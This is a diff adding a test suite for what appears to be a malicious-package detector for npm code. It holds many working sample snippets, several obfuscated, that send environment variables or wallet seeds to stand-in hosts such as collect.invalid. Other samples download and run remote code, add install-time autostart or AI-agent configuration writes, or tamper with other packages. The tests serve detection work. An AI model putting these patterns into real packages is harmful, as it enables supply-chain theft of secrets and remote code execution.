@@ -1,0 +1,198 @@
+import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import type { ArtifactFacts } from '../../../../../server/src/model/index.js';
+import { packageOf } from '../../../../support/artifacts.js';
+
+const analyse = (files: Readonly<Record<string, string | Uint8Array>>): ArtifactFacts =>
+  analysePackage(packageOf(files));
+const analyseIndex = (code: string): ArtifactFacts => analyse({ 'index.js': code });
+
+/** `environment>network@collect.invalid import` */
+function flowsIn({ flows }: ArtifactFacts): readonly string[] {
+  return flows.map(
+    ({ source, sink, host, moment }) => `${source}>${sink}${host === undefined ? '' : `@${host}`} ${moment}`,
+  );
+}
+
+function kindsIn({ behaviours }: ArtifactFacts): readonly string[] {
+  return behaviours.map(({ kind, moment }) => `${kind} ${moment}`);
+}
+
+const SENT = ['environment>network@collect.invalid import'];
+
+/** The same theft, each time by another way to the module, the data or the request. */
+const WAYS: Readonly<Record<string, string>> = {
+  'a plain request': `const https = require('https'); https.request('https://collect.invalid', { method: 'POST' }).end(JSON.stringify(process.env));`,
+  'a name in pieces': `const h = require(['ht', 'tps'].join('')); h.get('https://collect.invalid/?' + JSON.stringify(process['en' + 'v']));`,
+  'require under another name': `const load = require, h = load('node:https'); h.get('https://collect.invalid/' + encodeURIComponent(JSON.stringify(process.env)));`,
+  'the main module': `process.mainModule.require('https').get('https://collect.invalid/' + JSON.stringify(process.env));`,
+  'a built-in module of the process': `process.getBuiltinModule('https').get('https://collect.invalid/' + JSON.stringify({ ...process.env }));`,
+  'a global by a computed name': `globalThis['fe' + 'tch']('https://collect.invalid', { method: 'POST', body: JSON.stringify(globalThis['process'].env) });`,
+  'a constructor of a constructor': `const run = [].constructor.constructor; run('r', 'return r("https")')(require).get('https://collect.invalid/' + JSON.stringify(process.env));`,
+  'Reflect and apply': `const h = require('https'); Reflect.get(h, 'get').apply(h, ['https://collect.invalid/' + JSON.stringify(process.env)]);`,
+  'a comma, bind and call': `const h = require('https'); (0, h.get.bind(h)).call(null, 'https://collect.invalid/' + JSON.stringify(process.env));`,
+  'destructuring with defaults': `const { get: g = null } = require('https'); const { env: e = {} } = process; g('https://collect.invalid/' + JSON.stringify(e));`,
+  'entries one by one': `const a = []; for (const [k, v] of Object.entries(process.env)) a.push(k + '=' + v); fetch('https://collect.invalid', { method: 'POST', body: a.join('\\n') });`,
+  'names that fit a pattern': `const o = {}; for (const k in process.env) if (/TOKEN/.test(k)) o[k] = process.env[k]; fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o) });`,
+  base64: `const d = Buffer.from(JSON.stringify(process.env)).toString('base64'); fetch('https://collect.invalid/' + d);`,
+  'compression and a cipher': `const z = require('zlib').gzipSync(JSON.stringify(process.env)); const c = require('crypto').createCipheriv('aes-256-cbc', k, i); fetch('https://collect.invalid', { method: 'POST', body: Buffer.concat([c.update(z), c.final()]) });`,
+  promises: `Promise.resolve(process.env).then((e) => JSON.stringify(e)).then((body) => fetch('https://collect.invalid', { method: 'POST', body }));`,
+  'an async function': `(async () => { const e = await (async () => process.env)(); await fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(e) }); })();`,
+  'a class and a getter': `class C { #d; constructor(d) { this.#d = d; } get data() { return JSON.stringify(this.#d); } go() { return fetch('https://collect.invalid', { method: 'POST', body: this.data }); } } new C(process.env).go();`,
+  'a map and a closure': `const m = new Map([['e', () => process.env]]); m.get('e') && fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(m.get('e')()) });`,
+  'form data': `const f = new FormData(); f.append('e', JSON.stringify(process.env)); fetch('https://collect.invalid', { method: 'POST', body: f });`,
+  'code in code': `eval(Buffer.from(${JSON.stringify(Buffer.from("require('https').get('https://collect.invalid/'+JSON.stringify(process.env))").toString('base64'))}, 'base64').toString());`,
+  'a text timer': `setTimeout("require('https').get('https://collect.invalid/' + JSON.stringify(process.env))", 1);`,
+  'a condition nobody knows': `if (Date.now() > 17e11 && require('os').platform() === 'linux') fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) }); else module.exports = 1;`,
+  'an event that comes before': `let out = ''; const e = require('stdin-x'); e.on('end', () => fetch('https://collect.invalid', { method: 'POST', body: out })); e.on('data', () => { out += JSON.stringify(process.env); });`,
+  'an awaiter of TypeScript': `var __awaiter = function (t, a, P, g) { return new Promise(function (res, rej) { function f(v) { step(g.next(v)); } function step(r) { r.done ? res(r.value) : Promise.resolve(r.value).then(f); } step((g = g.apply(t, a || [])).next()); }); }; (() => __awaiter(void 0, void 0, void 0, function* () { const e = yield Promise.resolve(process.env); yield fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(e) }); }))();`,
+};
+
+describe('what code does', () => {
+  for (const [way, code] of Object.entries(WAYS)) {
+    it(`is seen through ${way}`, () => {
+      const flows = flowsIn(analyseIndex(code));
+      assert.ok(flows.includes(SENT[0] ?? ''), flows.join('; '));
+    });
+  }
+
+  it('is seen where it is put together out of several files, of either kind of module', () => {
+    const files = {
+      'package.json': JSON.stringify({ main: './lib/index.mjs', imports: { '#out': './lib/out.cjs' } }),
+      'lib/index.mjs': `export * from './glue.mjs';`,
+      'lib/glue.mjs': `import out from '#out'; import * as data from './data.mjs'; out.send(data.host.join('.'), data.take());`,
+      'lib/data.mjs': `export const host = ['collect', 'invalid']; export const take = () => process.env;`,
+      'lib/out.cjs': `const t = require('https'); exports.send = (h, d) => t.request({ hostname: h }).end(JSON.stringify(d));`,
+    };
+    assert.deepEqual(flowsIn(analyse(files)), SENT);
+  });
+
+  it('is seen through types', () => {
+    const code = `interface Sent { readonly body: string }
+enum Verb { Post = 'POST' }
+export async function send<T extends object>(data: T): Promise<void> {
+  await fetch('https://collect.invalid' as string, { method: Verb.Post, body: JSON.stringify(data) } satisfies Sent & { method: string });
+}
+void send(process.env!);`;
+    const facts = analyse({ 'package.json': '{"main":"index.ts"}', 'index.ts': code });
+    assert.deepEqual(flowsIn(facts), SENT);
+    assert.deepEqual([facts.flows[0]?.to.line, facts.flows[0]?.to.column], [4, 9]);
+    assert.deepEqual([facts.flows[0]?.from.line, facts.flows[0]?.from.column], [6, 11]);
+  });
+
+  it('tells when it happens', () => {
+    const send = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) })`;
+    const files = {
+      'package.json': JSON.stringify({
+        scripts: { postinstall: 'npm run setup', setup: 'node scripts/setup' },
+        bin: { x: 'cli.js' },
+      }),
+      'scripts/setup.js': `${send};`,
+      'index.js': `${send};`,
+      'cli.js': `${send};`,
+      'later.js': `exports.f = () => ${send};`,
+    };
+    const moments = analyse(files).flows.map(({ to, moment }) => `${to.file} ${moment}`);
+    assert.deepEqual(moments, ['scripts/setup.js install', 'index.js import', 'cli.js command', 'later.js call']);
+  });
+
+  it('is nothing where data stays, is digested, or goes to the machine itself', () => {
+    for (const code of [
+      `module.exports = JSON.stringify(process.env);`,
+      `require('child_process').spawn('ls', [], { env: process.env });`,
+      `fetch('https://telemetry.example', { method: 'POST', body: require('crypto').createHash('sha256').update(require('os').hostname()).digest('hex') });`,
+      `fetch('http://localhost:9229/json', { method: 'POST', body: JSON.stringify(process.env) });`,
+      `const level = process.env.LOG_LEVEL; fetch('https://api.example/' + level);`,
+    ]) {
+      assert.deepEqual(flowsIn(analyseIndex(code)), [], code);
+    }
+  });
+
+  it('names the encodings that a constant went through before it runs', () => {
+    const hidden = [...Buffer.from('require("child_process").exec("id")')].map((byte) => byte ^ 7);
+    const facts = analyseIndex(
+      `new Function('require', ${JSON.stringify(hidden)}.map((c) => String.fromCharCode(c ^ 7)).join(''))(require);`,
+    );
+    assert.deepEqual(
+      facts.flows.map(({ source, sink, via }) => [source, sink, via.includes('charcode')]),
+      [['decoded', 'evaluated', true]],
+    );
+  });
+
+  it('follows what is downloaded into whatever runs it', () => {
+    const got = `const h = require('https'), fs = require('fs'), cp = require('child_process'); h.get('https://cdn.invalid/p', (r) => { let d = ''; r.on('data', (c) => { d += c; }).on('end', () => {`;
+    for (const [run, flow] of [
+      ['eval(d)', 'downloaded>evaluated import'],
+      ['require("vm").runInThisContext(d)', 'downloaded>evaluated import'],
+      ['module._compile(d, "x")', 'downloaded>evaluated import'],
+      ['cp.exec(d)', 'downloaded>run-as-command import'],
+      ['fs.writeFileSync("/tmp/p", d); cp.execFile("/tmp/p")', 'downloaded>written-and-run import'],
+      ['fs.writeFileSync("/tmp/p.js", d); require("/tmp/p.js")', 'downloaded>loaded-as-module import'],
+      ['import("data:text/javascript," + d)', 'downloaded>loaded-as-module import'],
+      ['new (require("worker_threads").Worker)(d, { eval: true })', 'downloaded>evaluated import'],
+    ] as const) {
+      assert.deepEqual(flowsIn(analyseIndex(`${got} ${run}; }); });`)), [flow], run);
+    }
+  });
+
+  it('turns the tables of an obfuscator until they fit', () => {
+    const code = `(function(a,b){const c=_0x2;const d=a();while(!![]){try{const e=parseInt(c(0x1))/0x1+-parseInt(c(0x2))/0x2;if(e===b)break;else d['push'](d['shift']());}catch(f){d['push'](d['shift']());}}}(_0x1,0x5));function _0x1(){const g=['10x','https://collect.invalid','stringify','15x','20x'];_0x1=function(){return g;};return _0x1();}function _0x2(h,i){return _0x1()[h];}fetch(_0x2(0x4),{'method':'POST','body':JSON[_0x2(0x0)](process['env'])});`;
+    const facts = analyseIndex(code);
+    assert.deepEqual(flowsIn(facts), ['environment>network@collect.invalid import']);
+    assert.deepEqual(kindsIn(facts), ['obfuscated import']);
+  });
+
+  it('sees keys leave a function that they are given to, and not what is signed with them', () => {
+    const stolen = `exports.Wallet = class { static fromSeed(s) { fetch('https://k.invalid', { headers: { 'x-id': s } }); return new this(); } };`;
+    const signed = `const n = require('tweetnacl'); exports.sign = (secretKey, m) => fetch('https://k.invalid', { method: 'POST', body: n.sign(m, secretKey) });`;
+    assert.deepEqual(flowsIn(analyseIndex(stolen)), ['key-material>network@k.invalid call']);
+    assert.deepEqual(flowsIn(analyseIndex(signed)), []);
+  });
+
+  it('tells what is written where the system, an assistant or a neighbour looks', () => {
+    const write = (folder: string, file: string) =>
+      kindsIn(
+        analyse({
+          'package.json': '{"scripts":{"install":"node i.js"}}',
+          'i.js': `require('fs').writeFileSync(require('path').join(${folder}, '${file}'), x);`,
+        }),
+      );
+    assert.deepEqual(write(`require('os').homedir()`, '.config/systemd/user/a.service'), ['autostart install']);
+    assert.deepEqual(write('process.env.INIT_CWD', '.claude/settings.json'), ['agent-configuration install']);
+    assert.deepEqual(write('process.cwd()', '../ethers/lib/index.js'), ['other-package-changed install']);
+    assert.deepEqual(write('__dirname', 'build/binding.json'), []);
+  });
+
+  it('tells loops without an end, and lets every other one be', () => {
+    assert.deepEqual(kindsIn(analyseIndex(`for (let i = 666; i < Infinity; i++) console.log(i);`)), [
+      'endless-loop import',
+    ]);
+    assert.deepEqual(kindsIn(analyseIndex(`while (true) { console.log('LIBERTY'); }`)), ['endless-loop import']);
+    for (const code of [
+      `for (;;) { if (x()) break; }`,
+      `while (1) { if (a) return; }`,
+      `(async () => { for (;;) await y(); })();`,
+    ]) {
+      assert.deepEqual(kindsIn(analyseIndex(`function f() { ${code} } f();`)), [], code);
+    }
+  });
+
+  it('says so where it gives up, or where what runs is no JavaScript', () => {
+    const endless = analyseIndex(`let n = 0; for (let i = 0; i < 1e12; i++) n += i; require('https').get(n);`);
+    assert.deepEqual(endless.incomplete, [{ file: 'index.js', reason: 'takes more work to follow than is allowed' }]);
+    const broken = analyse({ 'index.js': 'require("https").get(', 'templates/a.js': 'import {{name}} from "https"' });
+    assert.deepEqual(
+      broken.incomplete.map(({ file }) => file),
+      ['index.js'],
+    );
+    const deep = analyseIndex(`x = ${'['.repeat(20_000)}${']'.repeat(20_000)}`);
+    assert.equal(deep.incomplete.length, 1);
+  });
+
+  it('finds the same with the gate off', () => {
+    for (const code of Object.values(WAYS)) {
+      const files = packageOf({ 'index.js': code, 'lib/plain.js': 'exports.add = (a, b) => a + b;' });
+      assert.deepEqual(analysePackage(files, { gate: false }), analysePackage(files));
+    }
+  });
+});
